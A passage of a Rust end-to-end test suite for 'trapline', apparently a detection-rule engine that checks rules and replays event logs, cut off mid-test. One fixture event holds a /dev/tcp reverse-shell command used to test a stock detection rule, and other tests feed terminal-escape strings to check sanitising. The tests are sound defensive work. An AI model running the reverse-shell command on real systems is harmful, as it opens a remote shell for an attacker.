//! End to end: the binary as people and scripts use it. What goes to standard output, what to standard error, and
//! how it exits.

mod ran;

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use tempfile::TempDir;

use self::ran::Ran;

/// A folder to run in, with files by name.
struct Bench {
    folder: TempDir,
}

impl Bench {
    fn new(files: &[(&str, &str)]) -> Self {
        let bench = Self { folder: tempfile::tempdir().unwrap() };
        for (name, text) in files {
            let path = bench.path().join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
        bench
    }

    fn path(&self) -> &Path {
        self.folder.path()
    }

    fn json(&self, name: &str) -> Value {
        serde_json::from_str(&fs::read_to_string(self.path().join(name)).unwrap()).unwrap()
    }

    fn run(&self, args: &[&str]) -> Ran {
        self.run_with(args, "")
    }

    fn run_with(&self, args: &[&str], stdin: &str) -> Ran {
        let mut child = Command::new(env!("CARGO_BIN_EXE_trapline"))
            .args(args)
            .current_dir(self.path())
            .env_remove("NO_COLOR")
            .env_remove("CLICOLOR_FORCE")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The child may exit without reading its input.
        drop(child.stdin.take().unwrap().write_all(stdin.as_bytes()));
        Ran::from(child.wait_with_output().unwrap())
    }
}

const RULE: &str = r#"
rule run_from_tmp {
  id: "7e1b6a56-39b5-4b1e-9a3e-2d9d1f3b7c01"
  version: "1.0.0"
  title: "Program started from a temporary folder"
  severity: high
  attack: ["T1059.004", "TA0002"]
  references: ["https://example.org/tmp"]

  on process.exec
  where process.executable under ["/tmp", "/dev/shm"]
  unless process.parent.name == "make"

  output "{user.name} ran {process.command_line} as {process.pid} from {process.parent.name|nowhere}"

  test "from tmp" {
    process.exec { process.executable: "/tmp/x" }
    expect alert
  }
  test "from bin" {
    process.exec { process.executable: "/bin/x" }
    expect none
  }
  test "path did not arrive" {
    process.exec { process.executable: lost }
    expect not_evaluable
  }
}
"#;

/// A rule with this name and condition.
fn rule(name: &str, severity: &str, condition: &str) -> String {
    format!(
        "rule {name} {{\n  version: \"1.0.0\"\n  title: \"{name}\"\n  severity: {severity}\n  \
         on process.exec\n  where {condition}\n}}\n"
    )
}

fn event(executable: &str) -> Value {
    json!({
        "@timestamp": "2026-02-03T04:05:06.789Z",
        "event": { "category": ["process"], "type": ["start"], "id": "original-1" },
        "host": { "name": "web-1", "os": { "type": "linux" } },
        "user": { "name": "alice" },
        "process": { "executable": executable, "pid": 42, "command_line": format!("{executable} -v") },
    })
}

/// How this system writes the path of a file that was found in a folder.
fn native(path: &str) -> String {
    path.replace('/', std::path::MAIN_SEPARATOR_STR)
}

fn lines(events: &[Value]) -> String {
    events.iter().map(|event| format!("{event}\n")).collect()
}

// --- usage

#[test]
fn help_and_usage() {
    let bench = Bench::new(&[]);
    bench.run(&["--help"]).exits(0).prints("replay").prints("Exit codes");
    bench.run(&["--version"]).exits(0).prints("trapline");
    bench.run(&[]).exits(2).prints_nothing().says("Usage");
    bench.run(&["frobnicate"]).exits(2).prints_nothing().says("unrecognized subcommand");
    bench.run(&["replay"]).exits(2).prints_nothing().says("INPUT");
}

#[test]
fn an_explanation_of_a_name_that_two_have_can_be_told_apart() {
    let bench = Bench::new(&[]);
    bench.run(&["explain", "read-only"]).exits(0).prints("refusal of the verifier").prints("  trap\n");
    let trap = bench.run(&["explain", "trap:read-only"]).exits(0).prints("  trap\n");
    assert!(!trap.stdout.contains("refusal"), "{}", trap.stdout);
    let refusal = bench.run(&["explain", "refusal:read-only"]).exits(0).prints("refusal of the verifier");
    assert!(!refusal.stdout.contains("  trap"), "{}", refusal.stdout);
    bench.run(&["explain", "trap:unreachable"]).exits(2).says("no code");
}

#[test]
fn what_comes_later_says_so() {
    let bench = Bench::new(&[("e.jsonl", ""), ("r.trap", RULE)]);
    for options in [&["--engine", "jit"][..], &["--threads", "2"], &["--order", "time"]] {
        let args = [&["replay", "--rules", "r.trap"][..], options, &["e.jsonl"]].concat();
        bench.run(&args).exits(2).prints_nothing().says("later version");
    }
    bench.run(&["replay", "--rules", "r.trap", "--threads", "0", "e.jsonl"]).exits(2).says("at least 1");
    bench
        .run(&[
            "replay",
            "--rules",
            "r.trap",
            "--engine",
            "interpreter",
            "--threads",
            "1",
            "--order",
            "file",
            "e.jsonl",
        ])
        .exits(0);
}

// --- check

#[test]
fn check_prints_what_each_rule_costs_and_reads() {
    let bench = Bench::new(&[("r.trap", RULE)]);
    bench
        .run(&["check", "r.trap"])
        .exits(0)
        .prints("run_from_tmp")
        .prints("fuel")
        .prints("process.executable, process.parent.name")
        .says("1 rule compiled and proved, 0 refused");
    let page = bench.run(&["check", "r.trap", "--format", "json"]).exits(0).json();
    let rule = &page["rules"][0];
    assert_eq!(rule["name"], "run_from_tmp");
    assert_eq!(rule["line"], 2);
    assert_eq!(rule["programs"][0]["family"], "process");
    assert!(rule["worst_fuel"].as_u64().unwrap() > 0);
    assert_eq!(page["diagnostics"], json!([]));
}

#[test]
fn check_tells_all_mistakes_at_once_and_still_checks_the_good_rules() {
    let bad = rule("bad", "high", "process.nmae == \"x\" and process.pid == \"text\"");
    let bench = Bench::new(&[("rules/good.trap", RULE), ("rules/bad.trap", &bad)]);
    let ran = bench.run(&["check", "rules"]).exits(2);
    let ran = ran.prints("run_from_tmp").says("unknown-field").says("process.name").says(&native("rules/bad.trap:6"));
    ran.says("1 refused");
    let page = bench.run(&["check", "rules", "--format", "json"]).exits(2).json();
    assert_eq!(page["rules"].as_array().unwrap().len(), 1);
    assert_eq!(page["refused"][0]["rule"], "bad");
    let diagnostics = page["diagnostics"].as_array().unwrap();
    assert_eq!(diagnostics.len(), 2, "{diagnostics:?}");
    assert_eq!(diagnostics[0]["code"], "unknown-field");
    assert_eq!(diagnostics[0]["labels"][0]["line"], 6);
}

#[test]
fn check_of_what_is_not_there() {
    let bench = Bench::new(&[("empty/readme.txt", ""), ("notes.txt", ""), ("no-rule.trap", "")]);
    bench.run(&["check", "nowhere.trap"]).exits(2).prints_nothing().says("nowhere.trap");
    bench.run(&["check", "empty"]).exits(2).says("no .trap, .yml, .yaml or .o files");
    bench.run(&["check", "no-rule.trap"]).exits(2).says("no rule to check");
    bench.run(&["check", "notes.txt"]).exits(2).says("not a rule file");
    bench.run(&["check"]).exits(2);
}

#[test]
fn content_of_a_rule_file_cannot_write_on_the_terminal() {
    let bench = Bench::new(&[("bad.trap", "rule a\u{1b}[2J\u{202e} { \u{7} }\r\n")]);
    let ran = bench.run(&["check", "bad.trap"]).exits(2);
    for nasty in ['\u{1b}', '\u{202e}', '\u{7}', '\r'] {
        assert!(!ran.stderr.contains(nasty), "{:?}", ran.stderr);
    }
}

#[test]
fn the_stock_rules_are_sound_and_their_tests_pass() {
    let bench = Bench::new(&[]);
    bench.run(&["check", "stock"]).exits(0).prints("reverse_shell_dev_tcp").says(", 0 refused");
    bench.run(&["test", "stock"]).exits(0).prints(", 0 failed");
}

// --- test

#[test]
fn tests_that_pass_and_tests_that_fail() {
    let bench = Bench::new(&[("r.trap", RULE)]);
    bench.run(&["test", "r.trap"]).exits(0).prints("ok      from tmp").prints("3 passed, 0 failed");
    let broken = RULE.replace("process.executable: \"/bin/x\"", "process.executable: \"/tmp/y\"");
    let bench = Bench::new(&[("r.trap", &broken)]);
    bench
        .run(&["test", "r.trap"])
        .exits(1)
        .prints("FAILED  from bin")
        .prints("expected no alert")
        .prints("got      an alert of severity high at event 1")
        .prints("event 1: process.exec { process.executable: \"/tmp/y\" }")
        .prints("2 passed, 1 failed");
    let page = bench.run(&["test", "r.trap", "--format", "json"]).exits(1).json();
    assert_eq!((&page["passed"], &page["failed"]), (&json!(2), &json!(1)));
    assert_eq!(page["tests"][1]["passed"], false);
    assert_eq!(page["tests"][1]["expected"], "no alert");
}

#[test]
fn a_run_without_a_test_fails() {
    let bench = Bench::new(&[("r.trap", &rule("quiet", "low", "process.pid == 1"))]);
    bench.run(&["test", "r.trap"]).exits(1).says("no test ran").prints("without a test: quiet");
}

#[test]
fn a_test_on_a_recorded_event() {
    let test = "test \"recorded\" { from \"events.jsonl\":2 expect alert }\n  \
                test \"other\" { from \"events.jsonl\":1 expect none }\n  test \"from tmp\"";
    let bench = Bench::new(&[
        ("rules/r.trap", &RULE.replace("test \"from tmp\"", test)),
        ("rules/events.jsonl", &lines(&[event("/bin/ls"), event("/tmp/ls")])),
    ]);
    bench.run(&["test", "rules/r.trap"]).exits(0).prints("5 passed, 0 failed");
    fs::remove_file(bench.path().join("rules/events.jsonl")).unwrap();
    bench.run(&["test", "rules/r.trap"]).exits(1).prints("2 failed").prints("events.jsonl");
}

#[test]
fn a_test_cannot_claim_what_its_source_never_sends() {
    let with = |event: &str| {
        RULE.replace(
            "test \"from tmp\" {",
            &format!("test \"impossible\" {{ {event} expect none }}\n  test \"from tmp\" {{"),
        )
    };
    for (event, reason) in [
        ("source: \"sysmon\" process.exec { process.tty.name: \"pts/0\" }", "sysmon never has process.tty.name"),
        ("source: \"smoke\" process.exec { process.pid: 1 }", "there is no source `smoke`"),
    ] {
        let bench = Bench::new(&[("r.trap", &with(event))]);
        bench.run(&["test", "r.trap"]).exits(1).prints("FAILED  impossible").prints(reason);
    }
    let bench = Bench::new(&[("r.trap", &with("source: \"sysmon\" process.exec { process.pid: 1 }"))]);
    bench.run(&["test", "r.trap"]).exits(0);
}

// --- fields, explain, debug

#[test]
fn fields_of_the_catalogue() {
    let bench = Bench::new(&[]);
    bench.run(&["fields", "granted"]).exits(0).prints("process.access.granted").prints("sysmon");
    bench.run(&["fields", "--classes"]).exits(0).prints("process.exec");
    let page = bench.run(&["fields", "--class", "dns.query", "--format", "json"]).exits(0).json();
    let names: Vec<&str> = page["fields"].as_array().unwrap().iter().map(|f| f["name"].as_str().unwrap()).collect();
    assert!(names.contains(&"dns.question.name") && !names.contains(&"process.access.granted"));
    bench.run(&["fields", "nonesuch"]).exits(2).prints_nothing().says("nonesuch");
    bench.run(&["fields", "--class", "process.eat"]).exits(2).says("process.exec");
}

#[test]
fn explain_has_a_page_on_codes_and_traps() {
    let bench = Bench::new(&[]);
    bench.run(&["explain", "unknown-field"]).exits(0).prints("diagnostic of the compiler").prints("trapline fields");
    bench.run(&["explain", "error[unknown-field]"]).exits(0).prints("diagnostic of the compiler");
    bench.run(&["explain", "out-of-bounds"]).exits(0).prints("refusal of the verifier");
    bench.run(&["explain", "fuel-exhausted"]).exits(0).prints("fuel");
    bench.run(&["explain"]).exits(0).prints("unknown-field").prints("fuel-exhausted").prints("out-of-bounds");
    bench.run(&["explain", "no-such-code"]).exits(2).prints_nothing().says("no-such-code");
}

#[test]
fn debug_prints_each_stage() {
    let bench = Bench::new(&[("r.trap", RULE)]);
    for (stage, text) in [
        ("tree", "run_from_tmp"),
        ("hir", "run_from_tmp"),
        ("mir", "process.executable"),
        ("asm", "exit"),
        ("state", "proved"),
    ] {
        bench.run(&["debug", stage, "r.trap"]).exits(0).prints(text);
    }
    bench.run(&["debug", "asm", "nowhere.trap"]).exits(2).says("nowhere.trap");
    let bench = Bench::new(&[("p.asm", "#! memory 8\nldxb r0, [r1+7]\nexit\n"), ("bad.asm", "frob")]);
    bench.run(&["debug", "state", "p.asm"]).exits(0).prints("r1=pointer to buffer").prints("# proved: 2 instructions");
    bench.run(&["debug", "state", "bad.asm"]).exits(2).says("not-assembled");
}

#[test]
fn debug_exec_runs_cases() {
    let cases = "\
{\"name\":\"two\",\"raw\":\"b7000000020000009500000000000000\",\"mem\":\"\"}
{\"name\":\"len\",\"raw\":\"bf200000000000009500000000000000\",\"mem\":\"001122\"}
{\"name\":\"identity\",\"raw\":\"b7010000 2a000000 8500000005000000 9500000000000000\"}
{\"name\":\"outside\",\"raw\":\"7900000000000000 9500000000000000\"}
{\"name\":\"bad opcode\",\"raw\":\"ff000000000000009500000000000000\",\"mem\":null}
";
    let bench = Bench::new(&[("c.jsonl", cases)]);
    let ran = bench.run(&["debug", "exec", "--cases", "c.jsonl"]).exits(0);
    let lines = ran.json_lines();
    let outcomes: Vec<&str> = lines.iter().map(|line| line["outcome"].as_str().unwrap()).collect();
    assert_eq!(outcomes, ["result", "result", "result", "trap", "rejected"]);
    let r0: Vec<&Value> = lines.iter().map(|line| &line["r0"]).collect();
    assert_eq!(r0, [&json!("0x2"), &json!("0x3"), &json!("0x2a"), &Value::Null, &Value::Null]);
    assert_eq!(lines[0]["fuel"], 2);
    assert!(lines[3]["reason"].as_str().unwrap().contains("out-of-region"), "{}", lines[3]);

    let ran = bench.run(&["debug", "exec", "--cases", "c.jsonl", "--verify"]).exits(0);
    let outcomes: Vec<Value> = ran.json_lines().into_iter().map(|line| line["outcome"].clone()).collect();
    assert_eq!(outcomes, ["result", "result", "result", "rejected", "rejected"]);
    let ran = bench.run_with(&["debug", "exec", "--cases", "-"], cases).exits(0);
    assert_eq!(ran.stdout.lines().count(), 5);
    bench.run(&["debug", "exec", "--cases", "c.jsonl", "--engine", "jit"]).exits(2).says("later version");
    bench.run(&["debug", "exec", "--cases", "none.jsonl"]).exits(2).says("none.jsonl");
    let ran = bench.run(&["debug", "exec", "--cases", "c.jsonl", "--fuel", "1"]).exits(0);
    assert_eq!((&ran.json_lines()[0]["outcome"], &ran.json_lines()[0]["fuel"]), (&json!("trap"), &json!(0)));
}

#[test]
#[cfg(not(feature = "rbpf"))]
fn without_rbpf_a_build_says_how_to_get_one_that_has_it() {
    let bench = Bench::new(&[("c.jsonl", "")]);
    for engine in ["rbpf", "interpreter,rbpf"] {
        let ran = bench.run(&["debug", "exec", "--cases", "c.jsonl", "--engine", engine]);
        ran.exits(2).prints_nothing().says("--features rbpf");
    }
}

#[test]
#[cfg(feature = "rbpf")]
fn debug_exec_compares_machines() {
    // The second is `movsx`, which rbpf takes for a move; the third an opcode that neither has.
    let cases = "\
{\"name\":\"two\",\"raw\":\"b7000000020000009500000000000000\"}
{\"name\":\"sign\",\"raw\":\"b701000080000000bf100800000000009500000000000000\"}
{\"name\":\"bad opcode\",\"raw\":\"ff000000000000009500000000000000\"}
";
    let bench = Bench::new(&[("c.jsonl", cases), ("same.jsonl", cases.lines().next().unwrap())]);
    let rbpf = bench.run(&["debug", "exec", "--cases", "c.jsonl", "--engine", "rbpf"]).exits(0).json_lines();
    assert_eq!(rbpf.len(), 3);
    assert_eq!((&rbpf[0]["r0"], &rbpf[0]["fuel"]), (&json!("0x2"), &Value::Null));
    let compare = ["debug", "exec", "--engine", "interpreter,rbpf", "--cases"];
    let ran = bench.run(&[&compare[..], &["c.jsonl"]].concat()).exits(1).says("3 cases: 1 agree, 1 differ");
    let differences = ran.json_lines();
    assert_eq!(differences.len(), 1);
    assert_eq!(differences[0]["name"], "sign");
    assert_eq!(differences[0]["engines"]["interpreter"]["r0"], "0xffffffffffffff80");
    assert_eq!(differences[0]["engines"]["rbpf"]["r0"], "0x80");
    bench.run(&[&compare[..], &["same.jsonl"]].concat()).exits(0).prints_nothing().says("1 agree, 0 differ");
}

#[test]
fn debug_exec_locates_bad_lines_and_goes_on() {
    let cases = "not json\n\n{\"name\":\"x\",\"raw\":\"9\"}\n{\"name\":\"y\",\"raw\":\"zz\"}\n{\"raw\":\"\"}\n\
                 {\"name\":\"half\",\"raw\":\"95000000\"}\n{\"name\":\"ok\",\"raw\":\"b7000000010000009500000000000000\"}\n";
    let bench = Bench::new(&[("c.jsonl", cases)]);
    let ran = bench.run(&["debug", "exec", "--cases", "c.jsonl"]).exits(2);
    let ran = ran.says("c.jsonl:1:").says("c.jsonl:3:").says("c.jsonl:4:").says("c.jsonl:5:").says("4 of the lines");
    let outcomes: Vec<Value> = ran.json_lines().into_iter().map(|line| line["outcome"].clone()).collect();
    // Every case with a name has its line.
    assert_eq!(outcomes, ["rejected", "rejected", "rejected", "result"]);
    let mem = "00".repeat((1 << 20) + 1);
    let big = format!("{{\"name\":\"big\",\"raw\":\"9500000000000000\",\"mem\":\"{mem}\"}}\n");
    let ran = bench.run_with(&["debug", "exec", "--cases", "-"], &big).exits(2).says("-:1: mem:");
    assert_eq!(ran.json()["outcome"], "rejected");
}

// --- replay

#[test]
fn replay_does_not_overwrite_what_it_reads_and_says_when_there_is_nothing_to_read() {
    let events = lines(&[event("/tmp/evil")]);
    let bench = Bench::new(&[("r.trap", RULE), ("in/e.jsonl", &events), ("notes/a.txt", "")]);
    for input in ["in", "in/e.jsonl"] {
        let args = ["replay", "--rules", "r.trap", "--summary", "./in/../in/e.jsonl", input];
        bench.run(&args).exits(2).prints_nothing().says("would overwrite this input");
    }
    assert_eq!(fs::read_to_string(bench.path().join("in/e.jsonl")).unwrap(), events);
    bench.run(&["replay", "--rules", "r.trap", "notes"]).exits(0).says("no file to read was found");
}

#[test]
fn replay_prints_alerts_as_ecs() {
    let events = lines(&[event("/bin/ls"), event("/tmp/evil"), event("/dev/shm/evil")]);
    let bench = Bench::new(&[("r.trap", RULE), ("e.jsonl", &events)]);
    let ran =
        bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "--summary", "s.json", "e.jsonl"]).exits(0);
    let alerts = ran.json_lines();
    assert_eq!(alerts.len(), 2);
    let alert = &alerts[0];
    assert_eq!(alert["@timestamp"], "2026-02-03T04:05:06.789Z");
    assert_eq!(alert["event"]["kind"], "alert");
    assert_eq!(alert["event"]["severity"], 73);
    assert_eq!(alert["event"]["id"].as_str().unwrap().len(), 64);
    assert_eq!(alert["message"], "alice ran /tmp/evil -v as 42 from nowhere");
    assert_eq!(alert["rule"]["id"], "7e1b6a56-39b5-4b1e-9a3e-2d9d1f3b7c01");
    assert_eq!(alert["rule"]["name"], "run_from_tmp");
    assert_eq!(alert["rule"]["version"], "1.0.0");
    assert_eq!(alert["rule"]["ruleset"], "r.trap");
    assert_eq!(alert["rule"]["reference"], "https://example.org/tmp");
    assert_eq!(alert["threat"]["technique"][0]["id"], "T1059");
    assert_eq!(alert["threat"]["tactic"][0]["id"], "TA0002");
    assert_eq!(alert["host"]["name"], "web-1");
    assert_eq!(alert["user"]["name"], "alice");
    assert_eq!(alert["process"]["pid"], 42);
    assert!(alert["ecs"]["version"].is_string());
    let own = &alert["trapline"];
    assert_eq!(own["severity"], "high");
    assert_eq!(own["source"]["file"], "e.jsonl");
    assert_eq!(own["source"]["record"], 2);
    assert_eq!(own["source"]["event_id"], "original-1");
    assert_eq!(own["digests"]["program"].as_str().unwrap().len(), 64);
    assert_eq!(own["evidence"][0]["field"], "process.executable");
    assert_eq!(own["evidence"][0]["value"], "/tmp/evil");
    assert_eq!(alerts[1]["trapline"]["source"]["record"], 3);
    assert_ne!(alerts[0]["event"]["id"], alerts[1]["event"]["id"]);

    let summary = bench.json("s.json");
    assert_eq!(summary["events"], 3);
    assert_eq!(summary["alerts"], 2);
    assert_eq!(summary["alerts_by_rule"], json!({ "7e1b6a56-39b5-4b1e-9a3e-2d9d1f3b7c01": 2 }));
    assert_eq!(summary["rules"], json!({ "loaded": 1, "refused": 0 }));
    assert_eq!((&summary["refused"], &summary["lost"], &summary["traps"]), (&json!(0), &json!(0), &json!(0)));
    assert!(summary["fuel"].as_u64().unwrap() > 0);
    assert!(summary["latency_ns"]["p50"].as_u64().unwrap() > 0);
    assert!(summary["events_per_second"].as_f64().unwrap() > 0.0);
    assert!(summary["seconds"]["run"].as_f64().unwrap() > 0.0);

    // The same again: the same alerts, with the same ids.
    let again = bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "e.jsonl"]).exits(0);
    assert_eq!(again.json_lines(), alerts);
}

#[test]
fn replay_as_text_and_as_an_array() {
    let bench = Bench::new(&[("r.trap", RULE), ("e.jsonl", &lines(&[event("/tmp/evil")])), ("none.jsonl", "")]);
    bench
        .run(&["replay", "--rules", "r.trap", "e.jsonl"])
        .exits(0)
        .prints(" HIGH  Program started from a temporary folder")
        .prints("/tmp/evil (42)")
        .prints("run_from_tmp 1.0.0")
        .prints("e.jsonl:1")
        .says("1 alert");
    let ran = bench.run(&["replay", "--rules", "r.trap", "--color", "always", "e.jsonl"]).exits(0);
    assert!(ran.stdout.contains("\u{1b}["));
    let ran = bench.run(&["replay", "--rules", "r.trap", "--format", "json", "e.jsonl"]).exits(0);
    assert_eq!(ran.json().as_array().unwrap().len(), 1);
    let ran = bench.run(&["replay", "--rules", "r.trap", "--format", "json", "none.jsonl"]).exits(0);
    assert_eq!(ran.json(), json!([]));
}

#[test]
fn replay_from_standard_input_and_from_a_folder() {
    let bench = Bench::new(&[
        ("r.trap", RULE),
        ("in/a.jsonl", &lines(&[event("/tmp/a")])),
        ("in/sub/b.json", &lines(&[event("/tmp/b")])),
    ]);
    let ran =
        bench.run_with(&["replay", "--rules", "r.trap", "--format", "jsonl", "-"], &lines(&[event("/tmp/c")])).exits(0);
    assert_eq!(ran.json_lines()[0]["trapline"]["source"]["file"], "-");
    let ran = bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "in"]).exits(0);
    let files: Vec<Value> = ran.json_lines().into_iter().map(|alert| alert["process"]["executable"].clone()).collect();
    assert_eq!(files, ["/tmp/a", "/tmp/b"]);
    bench.run(&["replay", "--rules", "r.trap", "nowhere.jsonl"]).exits(2).prints_nothing().says("nowhere.jsonl");
}

#[test]
fn alerts_of_one_event_come_in_the_order_of_rule_ids() {
    let rules = rule("zulu", "low", "process.pid == 42")
        + &rule("alpha", "high", "process.pid == 42")
        + &rule("mike", "low", "process.pid == 42");
    let bench = Bench::new(&[("r.trap", &rules), ("e.jsonl", &lines(&[event("/a"), event("/b")]))]);
    let ran = bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "e.jsonl"]).exits(0);
    let order: Vec<String> = ran
        .json_lines()
        .iter()
        .map(|alert| format!("{} {}", alert["process"]["executable"], alert["rule"]["id"]))
        .collect();
    assert_eq!(
        order,
        [
            "\"/a\" \"alpha\"",
            "\"/a\" \"mike\"",
            "\"/a\" \"zulu\"",
            "\"/b\" \"alpha\"",
            "\"/b\" \"mike\"",
            "\"/b\" \"zulu\""
        ]
    );
}

#[test]
fn bad_input_is_located_counted_and_costs_no_good_event() {
    let mut text = lines(&[event("/tmp/a")]);
    text.push_str("not json at all\n");
    text.push_str("{\"broken\": \n");
    text.push_str(&lines(&[event("/tmp/b")]));
    let bench = Bench::new(&[("r.trap", RULE), ("e.jsonl", &text)]);
    let ran =
        bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "--summary", "s.json", "e.jsonl"]).exits(0);
    assert_eq!(ran.json_lines().len(), 2);
    let ran = ran.says("e.jsonl:2: ").says("e.jsonl:3: ");
    assert!(ran.stderr.contains("refused"));
    let summary = bench.json("s.json");
    assert!(summary["refused"].as_u64().unwrap() >= 2, "{summary}");
}

#[test]
fn the_first_twenty_mistakes_in_the_input_are_printed_and_all_are_counted() {
    for (count, shown) in [(19, 19), (20, 20), (21, 20)] {
        let text = "no event\n".repeat(count);
        let bench = Bench::new(&[("r.trap", RULE), ("e.jsonl", &text)]);
        let ran = bench.run(&["replay", "--rules", "r.trap", "--summary", "s.json", "e.jsonl"]).exits(0);
        assert_eq!(ran.stderr.matches("e.jsonl:").count(), shown, "{}", ran.stderr);
        assert_eq!(ran.stderr.contains("is counted, not shown"), count > shown, "{}", ran.stderr);
        assert_eq!(bench.json("s.json")["refused"], count);
    }
}

#[test]
fn a_file_that_cannot_be_read_fails_the_run_if_it_was_named() {
    let bench = Bench::new(&[("r.trap", RULE), ("in/e.jsonl", &lines(&[event("/tmp/a")]))]);
    fs::write(bench.path().join("in/e.zst"), b"\x28\xb5\x2f\xfd\0\0\0\0").unwrap();
    let args = ["replay", "--rules", "r.trap", "--format", "jsonl"];
    let ran = bench.run(&[&args[..], &["in"]].concat()).exits(0);
    assert_eq!(ran.json_lines().len(), 1);
    let ran = bench.run(&[&args[..], &["in/e.zst", "in/e.jsonl"]].concat()).exits(2).says("in/e.zst could not be read");
    assert_eq!(ran.json_lines().len(), 1);
    bench.run(&[&args[..], &["--summary", "no/such/folder/s.json", "in"]].concat()).exits(2).prints_nothing();
}

#[test]
fn evidence_has_tests_on_numbers_too() {
    let rules = rule("by_pid", "low", "process.pid in [41, 42] and process.executable startswith \"/tmp\"");
    let bench = Bench::new(&[("r.trap", &rules), ("e.jsonl", &lines(&[event("/tmp/a")]))]);
    let ran = bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "e.jsonl"]).exits(0);
    let evidence = ran.json_lines()[0]["trapline"]["evidence"].clone();
    let of = |field: &str| {
        let all = evidence.as_array().unwrap();
        all.iter().find(|evidence| evidence["field"] == field).unwrap_or_else(|| panic!("{field} in {all:?}"))["value"]
            .clone()
    };
    assert_eq!(of("process.pid"), "42");
    assert_eq!(of("process.executable"), "/tmp/a");
}

#[test]
fn an_event_cannot_write_on_the_terminal() {
    let nasty = "/tmp/\u{1b}[2J\u{202e}\r\nFAKE";
    let bench = Bench::new(&[("r.trap", RULE), ("e.jsonl", &lines(&[event(nasty)]))]);
    for format in ["text", "jsonl", "json"] {
        let ran = bench.run(&["replay", "--rules", "r.trap", "--format", format, "e.jsonl"]).exits(0);
        for c in ['\u{1b}', '\u{202e}', '\r'] {
            assert!(!ran.stdout.contains(c) && !ran.stderr.contains(c), "{format}: {:?}", ran.stdout);
        }
        assert!(!ran.stdout.contains("\nFAKE"), "{}", ran.stdout);
    }
    let ran = bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "e.jsonl"]).exits(0);
    assert_eq!(ran.json_lines()[0]["process"]["executable"], nasty);
}

#[test]
fn fail_on_asks_for_a_severity() {
    let bench = Bench::new(&[("r.trap", RULE), ("e.jsonl", &lines(&[event("/tmp/a")]))]);
    for (level, code) in [("low", 1), ("high", 1), ("critical", 0)] {
        bench.run(&["replay", "--rules", "r.trap", "--fail-on", level, "e.jsonl"]).exits(code);
    }
    bench.run(&["replay", "--rules", "r.trap", "--fail-on", "terrible", "e.jsonl"]).exits(2);
}

#[test]
fn refused_rules_warn_in_a_folder_and_stop_when_named_or_strict() {
    let bad = rule("bad", "high", "process.nmae == \"x\"");
    let bench = Bench::new(&[
        ("rules/good.trap", RULE),
        ("rules/bad.trap", &bad),
        ("rules/sigma.yml", "title: x"),
        ("only_bad/bad.trap", &bad),
        ("e.jsonl", &lines(&[event("/tmp/a")])),
    ]);
    let ran =
        bench.run(&["replay", "--rules", "rules", "--format", "jsonl", "--summary", "s.json", "e.jsonl"]).exits(0);
    assert_eq!(ran.json_lines().len(), 1);
    ran.says("unknown-field").says("1 rule was refused; the others run").says(&native("skipped rules/sigma.yml"));
    let summary = bench.json("s.json");
    assert_eq!(summary["rules"], json!({ "loaded": 1, "refused": 1 }));
    assert_eq!(summary["refused_rules"][0]["rule"], "bad");
    assert_eq!(summary["refused_rules"][0]["code"], "unknown-field");
    bench.run(&["replay", "--rules", "rules", "--strict", "e.jsonl"]).exits(2).prints_nothing().says("--strict");
    bench
        .run(&["replay", "--rules", "rules/good.trap", "--rules", "rules/bad.trap", "e.jsonl"])
        .exits(2)
        .prints_nothing();
    bench.run(&["replay", "--rules", "only_bad", "e.jsonl"]).exits(2).prints_nothing().says("no rule could be loaded");
}

#[test]
fn rules_that_nothing_in_the_input_can_match_are_named_with_what_is_missing() {
    let sysmon = json!({
        "@timestamp": "2026-02-03T04:05:06Z",
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon",
            "event_id": 1, "event_data": { "Image": "C:\\a.exe", "ProcessId": "7" }
        },
    });
    let rules = rule("needs_tty", "low", "process.tty.name == \"x\"")
        + &rule("fine", "low", "process.executable endswith~ \"a.exe\"")
        + &rule("other_class", "low", "process.pid == 1").replace("on process.exec", "on clipboard");
    let bench = Bench::new(&[("r.trap", &rules), ("e.jsonl", &lines(&[sysmon]))]);
    let ran =
        bench.run(&["replay", "--rules", "r.trap", "--format", "jsonl", "--summary", "s.json", "e.jsonl"]).exits(0);
    assert_eq!(ran.json_lines().len(), 1, "{}", ran.stderr);
    ran.says("needs_tty").says("process.tty.name").says("sysmon");
    let summary = bench.json("s.json");
    let inert = summary["inert"].as_array().unwrap();
    let of = |id: &str| inert.iter().find(|rule| rule["id"] == id);
    assert_eq!(of("needs_tty").unwrap()["lacks"], json!({ "sysmon": { "fields": ["process.tty.name"] } }));
    assert!(of("fine").is_none());
}

#[test]
fn stock_rules_are_the_default() {
    let shell = json!({
        "@timestamp": "2026-02-03T04:05:06Z", "event": { "category": ["process"], "type": ["start"] },
        "host": { "os": { "type": "linux" } },
        "process": { "name": "bash", "args": ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.1/443"] },
    });
    let bench = Bench::new(&[("e.jsonl", &lines(&[shell]))]);
    let ran = bench.run(&["replay", "--format", "jsonl", "e.jsonl"]).exits(0);
    let alerts = ran.json_lines();
    assert!(
        alerts
            .iter()
            .any(|alert| alert["rule"]["name"] == "reverse_shell_dev_tcp" && alert["rule"]["ruleset"] == "stock")
    );
}

#[test]
fn a_reader_that_has_seen_enough_is_no_failure() {
    let events: Vec<Value> = (0..5000).map(|number| event(&format!("/tmp/{number}"))).collect();
    let bench = Bench::new(&[("r.trap", RULE), ("e.jsonl", &lines(&events))]);
    let mut child = Command::new(env!("CARGO_BIN_EXE_trapline"))
        .args(["replay", "--rules", "r.trap", "--format", "jsonl", "e.jsonl"])
        .current_dir(bench.path())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(!String::from_utf8_lossy(&output.stderr).contains("panic"));
}

#[test]
fn what_is_no_object_file_is_refused() {
